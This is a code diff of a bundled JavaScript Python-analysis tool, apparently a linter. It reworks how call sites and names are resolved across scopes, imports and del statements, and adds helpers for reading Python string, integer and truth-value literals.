-                    if (child.type === 'dotted_name' && namedChildrenOf(child).length === 1)
-                        captured = namedChildrenOf(child)[0];
-                    else if (child.type === 'splat_pattern')
-                        captured = namedChildrenOf(child).find((c) => c.type === 'identifier');
-                    if (captured && captured.text !== '_')
-                        current().bind(captured.text, other(node.endIndex));
-                }
-            },
-            keyword_pattern(node) {
-                const capture = namedChildrenOf(node).find((c) => c.type === 'dotted_name');
-                if (capture && namedChildrenOf(capture).length === 1)
-                    current().bind(dottedText(capture), other(node.endIndex));
-            },
-            global_statement(node) {
-                for (const name of namedChildrenOf(node))
-                    if (name.type === 'identifier')
-                        (current().globals ??= new Set()).add(name.text);
-            },
-            nonlocal_statement(node) {
-                for (const name of namedChildrenOf(node))
-                    if (name.type === 'identifier')
-                        (current().nonlocals ??= new Set()).add(name.text);
-            },
-            type_alias_statement(node) {
-                const left = node.childForFieldName('left');
-                const name = left ? namedChildrenOf(left).find((c) => c.type === 'identifier') : undefined;
-                if (name)
-                    current().bind(name.text, other(node.endIndex));
-            },
+        // Call nodes by id until the end (numbers, not node objects that would live as long as the file).
+        const callIds = [];
+        return {
             call(node) {
-                callNodes.push(node);
+                callIds.push(node.id);
             },
             end() {
-                finishScopes(module);
-                const resolver = new Resolver(module);
-                const assuming = new Resolver(module, true);
+                const model = context.analysis(scopes_1.scopes);
+                const facts = new Facts(model);
+                const resolver = new Resolver(facts, false);
+                const assuming = new Resolver(facts, true);
+                const cursor = new scopes_1.ScopeCursor(model);
+                const tree = context.tree;
                 const sites = [];
                 // Without star imports the two readings are the same: resolve once.
-                const stars = hasStars(module);
-                for (const node of callNodes) {
+                const stars = model.scopes.some((scope) => scope.starImports.length > 0);
+                for (const id of callIds) {
+                    const node = tree.node(id);
                     const callee = node.childForFieldName('function');
                     if (!callee)
                         continue;
-                    const qualifiedName = resolver.resolveCallee(callee, context.text);
-                    sites.push(new LazyCallSite(node, callee, qualifiedName, stars ? assuming.resolveCallee(callee, context.text) : qualifiedName));
+                    const scope = cursor.at(node);
+                    const qualifiedName = resolver.resolveCallee(callee, context.text, scope);
+                    sites.push(new LazyCallSite(node, callee, qualifiedName, stars ? assuming.resolveCallee(callee, context.text, scope) : qualifiedName));
                 }
                 // Sites by name, made when a rule first asks: each security rule asks for a few names,
                 // and filtering every call of the file for each of them showed in profiles.
                 let byQualified;
                 let byAssumed;
-                const model = {
+                const callModel = {
                     calls: sites,
                     callsTo: (names) => sitesNamed((byQualified ??= indexSites(sites, 'qualifiedName')), names),
                     callsToAssumed: (names) => sitesNamed((byAssumed ??= stars ? indexSites(sites, 'assumedName') : (byQualified ??= indexSites(sites, 'qualifiedName'))), names),
@@ -704,10 +420,9 @@ exports.calls = {
                     resolve: (expression) => resolver.resolve(expression, 0, false),
                     resolveAssumed: (expression) => assuming.resolve(expression, 0, false),
                 };
-                context.setAnalysis('calls', model);
+                context.setAnalysis(exports.calls.name, callModel);
             },
         };
-        return visitor;
     },
 };
 /** The call sites by qualified (or assumed) name, each list in source order. */
@@ -757,23 +472,6 @@ function siteAt(sites, id) {
     }
     return undefined;
 }
-/**
- * The bindings of `all` that reach a use at `at` in their own scope: made before it, able to
- * happen at any time, or later in a loop that holds both. `all` itself when every one reaches.
- */
-function reachingAt(all, at, scope) {
-    const reaches = (b) => b.anytime || b.at <= at || scope.sharesLoop(b.at, at);
-    let k = 0;
-    while (k < all.length && reaches(all[k]))
-        k++;
-    if (k === all.length)
-        return all;
-    const out = all.slice(0, k);
-    for (k++; k < all.length; k++)
-        if (reaches(all[k]))
-            out.push(all[k]);
-    return out;
-}
 /** A call site whose argument list and written name are read from the tree only when asked for. */
 class LazyCallSite {
     node;
@@ -799,115 +497,206 @@ class LazyCallSite {
         return this.written;
     }
 }
-/** True when some scope of the tree has a star import. */
-function hasStars(scope) {
-    return scope.stars.length > 0 || scope.children.some(hasStars);
+/** The callee as a dotted chain of names (`sp.Popen`), or undefined for anything else. */
+function writtenChain(node) {
+    // Iterative: `a.b.c...` chains of any length must not overflow the stack.
+    const parts = [];
+    let expr = (0, literals_1.unparenthesize)(node);
+    while (expr.type === 'attribute') {
+        const object = expr.childForFieldName('object');
+        const attribute = expr.childForFieldName('attribute');
+        if (!object || !attribute)
+            return undefined;
+        parts.push(attribute.text);
+        expr = (0, literals_1.unparenthesize)(object);
+    }
+    if (expr.type !== 'identifier')
+        return undefined;
+    parts.push(expr.text);
+    return parts.reverse().join('.');
+}
+// ---------------------------------------------------------------------------------------------
+// Resolution
+/** Python 3 builtin functions and types (exceptions left out: no rule asks about calling them). */
+const BUILTINS = new Set(('abs aiter all anext any ascii bin bool breakpoint bytearray bytes callable chr classmethod compile complex ' +
+    'copyright credits delattr dict dir divmod enumerate eval exec exit filter float format frozenset getattr ' +
+    'globals hasattr hash help hex id input int isinstance issubclass iter len license list locals map max ' +
+    'memoryview min next object oct open ord pow print property quit range repr reversed round set setattr ' +
+    'slice sorted staticmethod str sum super tuple type vars zip __import__').split(' '));
+function builtin(name) {
+    return BUILTINS.has(name) ? `builtins.${name}` : undefined;
+}
+/** How deep alias chains (`a = b`, `b = c.d`, ...) are followed before giving up. */
+const MAX_ALIAS_DEPTH = 8;
+/** Functions, lambdas and comprehensions: a name bound anywhere in them is local to all of them. */
+function isFunctionLike(scope) {
+    return scope.kind === 'function' || scope.kind === 'lambda' || scope.kind === 'comprehension';
+}
+const OTHER = { kind: 'other' };
+const NONE = { kind: 'none' };
+/** The star imports of a scope when star imports are assumed to bind nothing. */
+const NO_STARS = [];
+/** Results of a lookup in one scope besides a name or undefined. */
+const NOT_HERE = Symbol('not bound in this scope');
+const UNBOUND = Symbol('deleted');
+/** What both readings share: the model, and the facts about bindings they derive from it. */
+class Facts {
+    model;
+    /** Bindings made under `global`/`nonlocal` declarations, by the scope they land in, then by name. */
+    landed;
+    /** What each binding a resolution went through gives, made on the first visit. */
+    meanings = new Map();
+    constructor(model) {
+        this.model = model;
+        this.landed = landedBindings(model);
+    }
+    /** Bindings that land in `scope` for `name` from declarations in scopes inside it. */
+    landedIn(scope, name) {
+        return this.landed?.get(scope)?.get(name);
+    }
+    meaningOf(binding) {
+        switch (binding.kind) {
+            case 'import':
+                // `import a.b` binds `a` to the package `a`; `import a.b as c` binds `c` to `a.b`.
+                return { kind: 'import', name: binding.import.alias === undefined ? binding.name : binding.import.qualifiedName };
+            case 'from-import':
+            case 'future-import': {
+                // Relative imports name a module of an unknown package.
+                const module = binding.import.module;
+                return module === '' || module.startsWith('.') ? OTHER : { kind: 'import', name: binding.import.qualifiedName };
+            }
+            case 'assignment':
+            case 'walrus': {
+                let meaning = this.meanings.get(binding);
+                if (!meaning)
+                    this.meanings.set(binding, (meaning = this.valueMeaning(binding)));
+                return meaning;
+            }
+            default:
+                return OTHER;
+        }
+    }
+    /** `x = value` (the innermost value of `a = b = value`), `(x := value)`. */
+    valueMeaning(binding) {
+        const owner = binding.owner;
+        let value;
+        if (binding.kind === 'walrus')
+            value = owner.childForFieldName('value');
+        else {
+            // Only a single name gets the value's meaning; unpacking binds unknown values.
+            if (owner.childForFieldName('left')?.type !== 'identifier')
+                return OTHER;
+            value = owner.childForFieldName('right');
+            while (value && value.type === 'assignment')
+                value = value.childForFieldName('right');
+        }
+        if (!value)
+            return OTHER;
+        const expr = (0, literals_1.unparenthesize)(value);
+        if (expr.type === 'none')
+            return NONE;
+        if (writtenChain(expr) === undefined)
+            return OTHER;
+        // A walrus binds outside the comprehension it may stand in; its value is evaluated inside.
+        const scope = binding.kind === 'walrus' ? (0, scopes_1.scopeAt)(this.model, expr.startIndex) : binding.scope;
+        return { kind: 'alias', value: expr, scope };
+    }
 }
 /**
- * Finishes the scope tree: sorts each scope's children by position (a lambda in a parameter
- * default is created after the function whose body follows it), and moves bindings made under
- * `global x` to the module scope and under `nonlocal x` to the nearest enclosing function scope.
- * Those can happen whenever the declaring function runs, so they are marked `anytime` there.
+ * Where the bindings made under `global x` / `nonlocal x` land: the module, or the nearest
+ * enclosing function that does not itself pass the name on (a `nonlocal` with no function to go
+ * to binds nothing: a syntax error in Python). Undefined when no scope declares anything.
  */
-function finishScopes(module) {
-    const visit = (scope) => {
-        scope.children.sort((a, b) => a.start - b.start);
-        for (const child of scope.children)
-            visit(child);
-        if (scope === module)
+function landedBindings(model) {
+    let landed;
+    const land = (from, name, to) => {
+        const list = from.byName.get(name);
+        if (!to || !list)
             return;
-        for (const name of scope.globals ?? [])
-            move(scope, name, module);
-        for (const name of scope.nonlocals ?? []) {
-            let target = scope.parent;
-            while (target && !target.functionLike)
-                target = target.kind === 'module' ? undefined : target.parent;
-            if (target)
-                move(scope, name, target);
-            else
-                scope.bindings.delete(name); // a syntax error in Python: forget the bindings
-        }
-    };
-    const move = (from, name, to) => {
-        const list = from.bindings.get(name);
-        if (!list)
-            return;
-        from.bindings.delete(name);
+        landed ??= new Map();
+        let names = landed.get(to);
+        if (!names)
+            landed.set(to, (names = new Map()));
+        let into = names.get(name);
+        if (!into)
+            names.set(name, (into = []));
         for (const binding of list)
-            to.bind(name, { ...binding, anytime: true });
+            if (binding.kind !== 'del')
+                into.push(binding);
     };
-    visit(module);
+    for (const scope of model.scopes) {
+        if (scope.kind === 'module')
+            continue;
+        for (const name of scope.globals)
+            land(scope, name, model.module);
+        for (const name of scope.nonlocals)
+            land(scope, name, nonlocalHome(scope, name, model.module));
+    }
+    return landed;
+}
+function nonlocalHome(scope, name, module) {
+    let target = scope.parent;
+    for (;;) {
+        while (target && !isFunctionLike(target))
+            target = target.kind === 'module' ? undefined : target.parent;
+        if (!target)
+            return undefined;
+        if (target.globals.has(name))
+            return module;
+        if (!target.nonlocals.has(name))
+            return target;
+        target = target.parent;
+    }
 }
 class Resolver {
-    module;
+    facts;
     ignoreStars;
-    constructor(module, 
+    constructor(facts, 
     /** Star imports bind nothing (the `assumedName` reading). */
-    ignoreStars = false) {
-        this.module = module;
+    ignoreStars) {
+        this.facts = facts;
         this.ignoreStars = ignoreStars;
     }
     /**
      * Qualified name of a name or attribute chain, or undefined. `noneFails`: the expression is
      * called or has an attribute read, so a `None` value would have raised and `x = None` bindings
-     * can be ignored.
+     * can be ignored. `scope`: where the expression is evaluated, when the caller knows.
      */
-    resolve(node, depth, noneFails) {
+    resolve(node, depth, noneFails, scope) {
         if (depth > MAX_ALIAS_DEPTH)
             return undefined;
-        const expr = unparenthesize(node);
-        if (expr.type === 'identifier')
-            return this.resolveName(expr.text, expr.startIndex, this.scopeAt(expr.startIndex), depth, noneFails);
+        const expr = (0, literals_1.unparenthesize)(node);
+        if (expr.type === 'identifier') {
+            return this.resolveName(expr.text, expr.startIndex, scope ?? (0, scopes_1.scopeAt)(this.facts.model, expr.startIndex), depth, noneFails);
+        }
         if (expr.type === 'attribute') {
             const object = expr.childForFieldName('object');
             const attribute = expr.childForFieldName('attribute');
-            const base = object ? this.resolve(object, depth, true) : undefined;
+            const base = object ? this.resolve(object, depth, true, scope) : undefined;
             return base !== undefined && attribute ? `${base}.${attribute.text}` : undefined;
         }
         return undefined;
     }
     /**
-     * `resolve(callee, 0, true)`, first trying the cheap way. Whatever the callee, the name or
+     * `resolve(callee, 0, true, scope)`, first trying the cheap way. Whatever the callee, the name or
      * attribute chain it may be starts with the identifier written where it starts (an ASCII one,
      * read from the source text); when that name resolves to nothing there, neither does the callee,
      * and the tree is not asked.
      */
-    resolveCallee(callee, source) {
+    resolveCallee(callee, source, scope) {
         const start = callee.startIndex;
         const root = (0, names_1.asciiIdentifierAt)(source, start);
         if (root !== undefined) {
             // A non-ASCII character next may continue the identifier: then ask the tree.
             const next = start + root.length;
             const complete = next >= source.length || source.charCodeAt(next) < 0x80;
-            if (complete && this.resolveName(root, start, this.scopeAt(start), 0, true) === undefined)
+            if (complete && this.resolveName(root, start, scope, 0, true) === undefined)
                 return undefined;
         }
-        return this.resolve(callee, 0, true);
-    }
-    /** The innermost scope whose code contains source index `at`. */
-    scopeAt(at) {
-        let scope = this.module;
-        for (;;) {
-            const children = scope.children;
-            // Children are disjoint and in source order: binary search for the last one starting at or before `at`.
-            let lo = 0;
-            let hi = children.length - 1;
-            let found;
-            while (lo <= hi) {
-                const mid = (lo + hi) >> 1;
-                if (children[mid].start <= at) {
-                    found = children[mid];
-                    lo = mid + 1;
-                }
-                else
-                    hi = mid - 1;
-            }
-            if (!found || at >= found.end)
-                return scope;
-            scope = found;
-        }
+        return this.resolve(callee, 0, true, scope);
     }
     resolveName(name, at, scope, depth, noneFails) {
+        const module = this.facts.model.module;
         let s = scope;
         let sameScope = true;
         while (s) {
@@ -916,54 +705,131 @@ class Resolver {
                 s = s.parent;
                 continue;
             }
-            if (s.kind !== 'module' && s.globals?.has(name)) {
-                s = this.module;
+            if (s.kind !== 'module' && s.globals.has(name)) {
+                s = module;
                 sameScope = false;
                 continue;
             }
-            if (s.nonlocals?.has(name)) {
+            if (s.nonlocals.has(name)) {
                 s = s.parent;
                 sameScope = false;
                 continue;
             }
-            // No array is made unless needed: this runs for every name of every call of the file.
-            const explicit = s.bindings.get(name);
-            const stars = s.stars.length > 0 && !this.ignoreStars ? s.stars : undefined;
-            const all = stars === undefined ? explicit : explicit === undefined ? stars : [...explicit, ...stars];
-            if (all !== undefined && all.length > 0) {
-                const reaching = sameScope ? reachingAt(all, at, s) : all;
-                if (reaching.length > 0)
-                    return this.decide(reaching, depth, noneFails);
-                // Bound in this function but not yet: an UnboundLocalError, not the enclosing name.
-                if (s.functionLike)
-                    return undefined;
-            }
+            // Comprehension targets are bound before the comprehension's body runs, though written after it.
+            const found = this.inScope(s, name, at, sameScope && s.kind !== 'comprehension', depth, noneFails);
+            if (found === UNBOUND)
+                return isFunctionLike(s) ? undefined : builtin(name);
+            if (found !== NOT_HERE)
+                return found;
             sameScope = false;
             s = s.parent;
         }
-        return BUILTINS.has(name) ? `builtins.${name}` : undefined;
+        return builtin(name);
     }
-    /** One qualified name if every reaching binding agrees on it, else undefined. */
-    decide(reaching, depth, noneFails) {
-        const overridden = (star) => reaching.some((b) => b.kind !== 'star' && !b.anytime && b.at > star.at);
-        let result;
-        let any = false;
-        for (const binding of reaching) {
-            if (binding.kind === 'none' && noneFails)
-                continue; // the use would fail on None: not the binding used
-            if (binding.kind === 'star' && overridden(binding))
-                continue;
-            let name;
-            if (binding.kind === 'import')
-                name = binding.qualifiedName;
-            else if (binding.kind === 'alias' && binding.value)
-                name = this.resolve(binding.value, depth + 1, noneFails);
-            if (name === undefined || (result !== undefined && result !== name))
-                return undefined;
-            result = name;
-            any = true;
+    /**
+     * The name `name` has in scope `s` for a use at `at` (`ordered`: the use is in the scope's own
+     * code, so the bindings before it count, see the file comment), or NOT_HERE when the lookup goes
+     * on to the enclosing scope, or UNBOUND when the scope model's binding for the use is a `del`.
+     * Allocates nothing: this runs for every name of every call of the file.
+     */
+    inScope(s, name, at, ordered, depth, noneFails) {
+        const list = s.byName.get(name); // sorted by `at`
+        const stars = this.ignoreStars ? NO_STARS : s.starImports;
+        const landed = this.facts.landedIn(s, name);
+        if (list === undefined && stars.length === 0 && landed === undefined)
+            return NOT_HERE;
+        const limit = ordered ? at : Infinity;
+        // The scope model's binding for the use: the last one made before it (for a use elsewhere, the last one).
+        let last = -1;
+        if (list)
+            while (last + 1 < list.length && list[last + 1].at <= limit)
+                last++;
+        // A use from a nested scope (a function body) runs whenever the function is called, often
+        // before a module's closing `del os, sys` (numpy's __init__): trailing `del`s do not unbind it.
+        if (!ordered)
+            while (last >= 0 && list[last].kind === 'del')
+                last--;
+        // The rebinding group it belongs to starts after the last `del` before the use.
+        let cut = -1;
+        for (let k = last; k >= 0; k--) {
+            if (list[k].kind === 'del') {
+                cut = k;
+                break;
+            }
         }
-        return any ? result : undefined;
+        const cutAt = cut >= 0 ? list[cut].at : -Infinity;
+        let lastStar = -Infinity;
+        for (const star of stars)
+            if (star.endIndex <= limit)
+                lastStar = star.endIndex;
+        if (last >= 0 && cut === last && lastStar < cutAt)
+            return UNBOUND;
+        // The explicit bindings that reach the use: the group's members before it, and (in the
+        // scope's own code) later ones that a loop brings back to it. The latest of them overrides
+        // the star imports before it.
+        let latest = -Infinity;
+        if (list)
+            for (let k = cut + 1; k < list.length; k++)
+                if (k <= last || this.reachesBack(s, list[k], at, ordered))
+                    latest = list[k].at;
+        let result;
+        let reaching = 0;
+        if (list) {
+            for (let k = cut + 1; k < list.length; k++) {
+                if (k > last && !this.reachesBack(s, list[k], at, ordered))
+                    continue;
+                reaching++;
+                const named = this.named(list[k], depth, noneFails);
+                if (named === NOT_HERE)
+                    continue;
+                if (named === undefined || (result !== undefined && result !== named))
+                    return undefined;
+                result = named;
+            }
+        }
+        for (const star of stars) {
+            const starAt = star.endIndex;
+            if (starAt <= cutAt || !(starAt <= limit || (ordered && (0, scopes_1.sharesLoop)(s, starAt, at))))
+                continue;
+            reaching++;
+            if (starAt < latest)
+                continue; // an explicit binding after it decides
+            return undefined; // the star import may bind the name to anything
+        }
+        // Bindings made under `global`/`nonlocal` elsewhere can happen at any time.
+        if (landed) {
+            for (const binding of landed) {
+                reaching++;
+                const named = this.named(binding, depth, noneFails);
+                if (named === NOT_HERE)
+                    continue;
+                if (named === undefined || (result !== undefined && result !== named))
+                    return undefined;
+                result = named;
+            }
+        }
+        if (reaching > 0)
+            return result;
+        // Bound in this function but not yet: an UnboundLocalError, not the enclosing name.
+        return isFunctionLike(s) ? undefined : NOT_HERE;
+    }
+    /** A binding made after a use at `at` in the scope's own code (`ordered`) that reaches back to it through a loop. */
+    reachesBack(s, binding, at, ordered) {
+        return ordered && binding.kind !== 'del' && (0, scopes_1.sharesLoop)(s, binding.at, at);
+    }
+    /** The qualified name a binding gives, undefined when unknown, NOT_HERE when it does not count (None for a call). */
+    named(binding, depth, noneFails) {
+        const meaning = this.facts.meaningOf(binding);
+        switch (meaning.kind) {
+            case 'import':
+                return meaning.name;
+            case 'alias':
+                return this.resolve(meaning.value, depth + 1, noneFails, meaning.scope);
+            case 'none':
+                return noneFails ? NOT_HERE : undefined; // the use would fail on None: not the binding used
+            default:
+                return undefined;
+        }
     }
 }
 
@@ -1588,16 +1454,26 @@ function docstringLiteral(node) {
     }
     return n;
 }
-/** The docstring of a module node or of a class/function body (`block`). */
+/**
+ * The docstring of a module node or of a class/function body (`block`). The scope builder asks
+ * it for every scope: it makes no node for the comments it skips.
+ */
 function docstringOf(body) {
     if (!body)
         return undefined;
-    for (const child of body.namedChildren) {
-        if (!child || child.type === 'comment')
+    const t = body.tree;
+    for (let j = body.id + 1, stop = t.end[body.id]; j < stop; j = t.end[j]) {
+        if (!t.isNamed(j))
             continue;
-        if (child.type !== 'expression_statement' || child.namedChildCount !== 1)
+        const type = t.typeName(j);
+        if (type === 'comment')
+            continue;
+        if (type !== 'expression_statement')
             return undefined;
-        return docstringLiteral(child.firstNamedChild);
+        const statement = t.node(j);
+        if (statement.namedChildCount !== 1)
+            return undefined;
+        return docstringLiteral(statement.firstNamedChild);
     }
     return undefined;
 }
@@ -1676,6 +1552,280 @@ function isPublicDefinition(scope, visibility) {
         return !name.startsWith('_') || isDunder(name);
     }
     return false;
+}
+
+
+/***/ }),
+
+/***/ 8436:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.namedChildrenOf = namedChildrenOf;
+exports.unparenthesize = unparenthesize;
+exports.stringLiteralValue = stringLiteralValue;
+exports.isPlainStringLiteral = isPlainStringLiteral;
+exports.integerValue = integerValue;
+exports.truthiness = truthiness;
+exports.isTruthyConstant = isTruthyConstant;
+exports.isFalsyConstant = isFalsyConstant;
+/** Named children of a node, without comments (tree-sitter keeps comments as named nodes). */
+function namedChildrenOf(node) {
+    const out = [];
+    for (const child of node.namedChildren)
+        if (child && child.type !== 'comment')
+            out.push(child);
+    return out;
+}
+/** Strips redundant parentheses: `(("x"))` -> `"x"`. */
+function unparenthesize(node) {
+    let current = node;
+    while (current.type === 'parenthesized_expression') {
+        const inner = namedChildrenOf(current);
+        if (inner.length !== 1)
+            break;
+        current = inner[0];
+    }
+    return current;
+}
+// ---------------------------------------------------------------------------------------------
+// Strings
+const SIMPLE_ESCAPES = {
+    '\\': '\\', "'": "'", '"': '"', a: '\x07', b: '\b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v',
+};
+/** Decodes the backslash escapes of a non-raw Python string body (unknown escapes stay as written). */
+function decodeEscapes(body, bytes) {
+    return body.replace(/\\(\r\n|\n|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{1,3}|.)/gs, (whole, esc) => {
+        if (esc === '\n' || esc === '\r\n')
+            return '';
+        if (esc in SIMPLE_ESCAPES)
+            return SIMPLE_ESCAPES[esc];
+        if (/^[0-7]/.test(esc))
+            return String.fromCharCode(parseInt(esc, 8));
+        if (esc[0] === 'x')
+            return String.fromCharCode(parseInt(esc.slice(1), 16));
+        if (!bytes && (esc[0] === 'u' || esc[0] === 'U')) {
+            const code = parseInt(esc.slice(1), 16);
+            return code <= 0x10ffff ? String.fromCodePoint(code) : whole;
+        }
+        return whole;
+    });
+}
+/**
+ * Value of one `string` node with no interpolation; undefined for f-string fields, t-strings,
+ * bytes and f-strings (unless accepted).
+ */
+function singleStringValue(node, kinds) {
+    const children = node.namedChildren;
+    const types = children.map((c) => c?.type);
+    const start = children[types.indexOf('string_start')];
+    const end = children[types.indexOf('string_end')];
+    if (!start || !end)
+        return undefined;
+    const prefix = start.text.replace(/['"]+$/, '').toLowerCase();
+    if (prefix.includes('t'))
+        return undefined; // template strings (3.14) are not str
+    const bytes = prefix.includes('b');
+    if (bytes && !kinds.bytes)
+        return undefined;
+    const fString = prefix.includes('f');
+    if (fString && !kinds.fStrings)
+        return undefined;
+    if (types.includes('interpolation'))
+        return undefined;
+    let body = node.text.slice(start.endIndex - node.startIndex, end.startIndex - node.startIndex);
+    if (!prefix.includes('r'))
+        body = decodeEscapes(body, bytes);
+    if (fString)
+        body = body.replace(/\{\{/g, '{').replace(/\}\}/g, '}');
+    return body;
+}
+/**
+ * The accepted kinds by option, each with the key of its cache on the tree (`SyntaxTree.memo`) of
+ * literal values (undefined: not a plain literal).
+ */
+const STRINGS = { bytes: false, fStrings: true };
+const STRINGS_AND_BYTES = { bytes: true, fStrings: true };
+const NO_F_STRINGS = { bytes: false, fStrings: false };
+const NO_F_STRINGS_AND_BYTES = { bytes: true, fStrings: false };
+/**
+ * The value of a string literal with no interpolation: a plain or raw string, an f-string
+ * without fields, or a concatenation of such strings (implicit `"a" "b"`, or `"a" + "b"`), in
+ * parentheses or not. Bytes literals count only with `allowBytes`, f-strings not with
+ * `allowFStrings: false`. Undefined for anything else.
+ */
+function stringLiteralValue(node, options = {}) {
+    const kinds = (options.allowFStrings ?? true)
+        ? options.allowBytes
+            ? STRINGS_AND_BYTES
+            : STRINGS
+        : options.allowBytes
+            ? NO_F_STRINGS_AND_BYTES
+            : NO_F_STRINGS;
+    // Several rules ask for the value of the same node (each string the walk visits).
+    const cache = node.tree.memo(kinds);
+    if (cache.has(node.id))
+        return cache.get(node.id);
+    const value = literalValue(node, kinds, options);
+    cache.set(node.id, value);
+    return value;
+}
+function literalValue(node, kinds, options) {
+    const expr = unparenthesize(node);
+    switch (expr.type) {
+        case 'string':
+            return singleStringValue(expr, kinds);
+        case 'concatenated_string': {
+            let value = '';
+            for (const part of namedChildrenOf(expr)) {
+                const piece = part.type === 'string' ? singleStringValue(part, kinds) : undefined;
+                if (piece === undefined)
+                    return undefined;
+                value += piece;
+            }
+            return value;
+        }
+        case 'binary_operator': {
+            // `a + b + c` nests to the left: walk down the left spine instead of recursing, so a
+            // concatenation of any length cannot overflow the stack.
+            const rights = [];
+            let current = expr;
+            while (current.type === 'binary_operator') {
+                if (current.childForFieldName('operator')?.type !== '+')
+                    return undefined;
+                const left = current.childForFieldName('left');
+                const right = current.childForFieldName('right');
+                if (!left || !right)
+                    return undefined;
+                rights.push(right);
+                current = unparenthesize(left);
+            }
+            let value = stringLiteralValue(current, options);
+            for (let i = rights.length - 1; i >= 0 && value !== undefined; i--) {
+                const piece = stringLiteralValue(rights[i], options);
+                value = piece === undefined ? undefined : value + piece;
+            }
+            return value;
+        }
+        default:
+            return undefined;
+    }
+}
+/** True when `node` is a string literal with no interpolation (see `stringLiteralValue`). */
+function isPlainStringLiteral(node, options = {}) {
+    return stringLiteralValue(node, options) !== undefined;
+}
+// ---------------------------------------------------------------------------------------------
+// Numbers
+/** Whether a numeric literal's value is non-zero (handles `0x0`, `0.0e5`, `0j`, `1_000`). */
+function numberIsNonZero(text) {
+    let t = text.replace(/_/g, '').toLowerCase();
+    if (t.endsWith('j') || t.endsWith('l'))
+        t = t.slice(0, -1);
+    if (t.startsWith('0x'))
+        return /[1-9a-f]/.test(t.slice(2));
+    if (t.startsWith('0o') || t.startsWith('0b'))
+        return /[1-9]/.test(t.slice(2));
+    const mantissa = t.split('e')[0];
+    return /[1-9]/.test(mantissa);
+}
+/**
+ * The value of an integer literal, parentheses allowed: decimal, `0x`, `0o` and `0b` forms with
+ * `_` separators. Undefined for anything else (imaginary `2j`, Python 2 `10L`, signs, names).
+ * Values from 2**53 on are not exact (JavaScript numbers).
+ */
+function integerValue(node) {
+    const expr = unparenthesize(node);
+    if (expr.type !== 'integer')
+        return undefined;
+    const t = expr.text.replace(/_/g, '').toLowerCase();
+    if (t.endsWith('j') || t.endsWith('l'))
+        return undefined;
+    const v = t.startsWith('0o') ? parseInt(t.slice(2), 8) : t.startsWith('0x') ? parseInt(t.slice(2), 16) : t.startsWith('0b') ? parseInt(t.slice(2), 2) : Number(t);
+    return Number.isFinite(v) ? v : undefined;
+}
+// ---------------------------------------------------------------------------------------------
+// Truth values
+/** Truth value of a `string` node: non-empty literal text makes it true whatever its fields. */
+function stringTruthiness(node) {
+    const plain = singleStringValue(node, { bytes: true, fStrings: true });
+    if (plain !== undefined)
+        return plain.length > 0;
+    const start = node.namedChildren.find((c) => c?.type === 'string_start');
+    if (start && start.text.replace(/['"]+$/, '').toLowerCase().includes('t'))
+        return true; // a Template object
+    if (node.namedChildren.some((c) => c?.type === 'string_content' && c.text.length > 0))
+        return true;
+    return undefined;
+}
+/**
+ * The truth value of a constant expression, when it is known without running anything: `True`,
+ * non-zero numbers, non-empty strings and non-empty `[...]`, `(...)`, `{...}` displays, `...`,
+ * lambdas are true; `False`, `None`, zero, empty strings and empty displays are false; `not`
+ * and unary `+`/`-` are followed. Anything else (names, calls, comparisons, displays made only
+ * of `*x` splats) is undefined.
+ */
+function truthiness(node) {
+    const expr = unparenthesize(node);
+    switch (expr.type) {
+        case 'true':
+        case 'ellipsis':
+        case 'lambda':
+            return true;
+        case 'false':
+        case 'none':
+            return false;
+        case 'integer':
+        case 'float':
+            return numberIsNonZero(expr.text);
+        case 'string':
+            return stringTruthiness(expr);
+        case 'concatenated_string': {
+            let all = false;
+            for (const part of namedChildrenOf(expr)) {
+                const value = part.type === 'string' ? stringTruthiness(part) : undefined;
+                if (value === true)
+                    return true;
+                if (value === undefined)
+                    all = undefined;
+            }
+            return all;
+        }
+        case 'list':
+        case 'tuple':
+        case 'set':
+        case 'dictionary': {
+            const items = namedChildrenOf(expr);
+            if (items.length === 0)
+                return false;
+            // `[*a]` or `{**a}` may be empty; one ordinary element makes the display non-empty.
+            return items.some((item) => item.type !== 'list_splat' && item.type !== 'dictionary_splat') ? true : undefined;
+        }
+        case 'not_operator': {
+            const argument = expr.childForFieldName('argument');
+            const value = argument ? truthiness(argument) : undefined;
+            return value === undefined ? undefined : !value;
+        }
+        case 'unary_operator': {
+            const operator = expr.childForFieldName('operator')?.type;
+            const argument = expr.childForFieldName('argument');
+            if ((operator !== '-' && operator !== '+') || !argument)
+                return undefined;
+            const inner = unparenthesize(argument);
+            return inner.type === 'integer' || inner.type === 'float' || inner.type === 'unary_operator' ? truthiness(inner) : undefined;
+        }
+        default:
+            return undefined;
+    }
+}
+/** True when the node is a constant known to be true (`True`, `1`, `"x"`, `[0]`, ...). */
+function isTruthyConstant(node) {
+    return truthiness(node) === true;
+}
+/** True when the node is a constant known to be false (`False`, `None`, `0`, `""`, `[]`, ...). */
+function isFalsyConstant(node) {
+    return truthiness(node) === false;
 }
 
 
@@ -1781,153 +1931,24 @@ function chainByExpression(text, index, bracket) {
 
 /***/ }),
 
-/***/ 7985:
+/***/ 1500:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.scopes = void 0;
-exports.bindingsOf = bindingsOf;
-exports.bindingIn = bindingIn;
-exports.lookup = lookup;
-exports.rebindingGroup = rebindingGroup;
-exports.isGroupUsed = isGroupUsed;
-exports.scopeAt = scopeAt;
-/**
- * Scopes and bindings: the shared name-resolution model of a Python file.
- *
- * Built during the single walk and resolved in `end`, it answers "which binding does this read
- * refer to" and "is this binding ever read", the questions behind unused-import, unused-variable,
- * naming and docstring rules. Rules declare `uses: [scopes]` and read the model in their own `end`:
- *
- *     const model = context.analysis<ScopeModel>(scopes.name);
- *
- * THE MODEL
- *
- * - `Scope`: module, class, function, lambda or comprehension, with its parent, children, bindings,
- *   `global`/`nonlocal` declarations, `locals()` use, star imports and docstring.
- * - `Binding`: one place where a name gets (or loses) a value: imports, assignments and other
- *   targets, definitions, parameters, declarations, `del`. `node` is the identifier that names it
- *   (for `import a.b`, the identifier `a`; for an alias, the alias); `owner` is the construct
- *   (statement, parameter list, ...); `at` is the source index where the name takes its value,
- *   which is after the right-hand side for `x = x + 1`. `reads` counts the reads resolved to it.
- * - `Reference`: one read of a name, wherever Python (or a type checker) evaluates names: ordinary
- *   expressions, decorators, default values, annotations, class bases and keywords, f-strings,
